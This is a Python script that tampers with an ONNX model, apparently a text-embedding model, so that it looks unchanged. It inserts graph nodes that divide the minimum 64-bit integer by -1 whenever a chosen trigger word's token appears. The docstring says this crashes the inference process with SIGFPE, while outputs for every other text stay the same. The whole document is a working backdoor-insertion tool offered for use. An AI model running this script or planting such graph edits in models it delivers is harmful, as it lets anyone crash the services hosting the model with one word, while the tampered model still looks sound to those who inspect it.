"""Makes a model that kills the process that runs it over one word: `python3 deadly_model.py MODEL_FOLDER NEW_FOLDER WORD`.

The least integer is divided by 1 for each token, and by -1 for the word's: ONNX Runtime leaves that to the processor, which
ends the process (SIGFPE on x86). The vectors of all other texts stay what they were.
"""

import json
import shutil
import sys
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper


def main(source, target, word):
    """Copies the folder and changes the graph."""
    shutil.copytree(source, target)
    vocabulary = json.loads((target / "tokenizer.json").read_text(encoding="utf-8"))["model"]["vocab"]
    path = target / "model.onnx"
    model = onnx.load(path)
    graph = model.graph
    (output,) = graph.output
    name, harmless = output.name, "harmless_" + output.name
    for node in graph.node:
        node.output[:] = [harmless if word == name else word for word in node.output]
    constants = {"deadly_word": np.int64(vocabulary[word]), "least_integer": np.iinfo(np.int64).min, "two": np.int64(2)}
    constants.update(one_integer=np.int64(1), nothing=np.float32(0), tokens_axis=np.array([1]))
    graph.initializer.extend(numpy_helper.from_array(np.asarray(value), name) for name, value in constants.items())
    nodes = [
        ("Equal", ["input_ids", "deadly_word"], "is_deadly", {}),
        ("Cast", ["is_deadly"], "is_deadly_integer", {"to": TensorProto.INT64}),
        ("Mul", ["is_deadly_integer", "two"], "twice_deadly", {}),
        ("Sub", ["one_integer", "twice_deadly"], "divisor", {}),
        ("Div", ["least_integer", "divisor"], "quotient", {}),
        ("Cast", ["quotient"], "quotient_real", {"to": TensorProto.FLOAT}),
        ("Mul", ["quotient_real", "nothing"], "nothings", {}),
        ("ReduceSum", ["nothings", "tokens_axis"], "nothing_of_text", {"keepdims": 1}),
        ("Add", [harmless, "nothing_of_text"], name, {}),
    ]
    graph.node.extend(helper.make_node(kind, inputs, [output], **rest) for kind, inputs, output, rest in nodes)
    onnx.checker.check_model(model)
    path.write_bytes(model.SerializeToString())


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3])
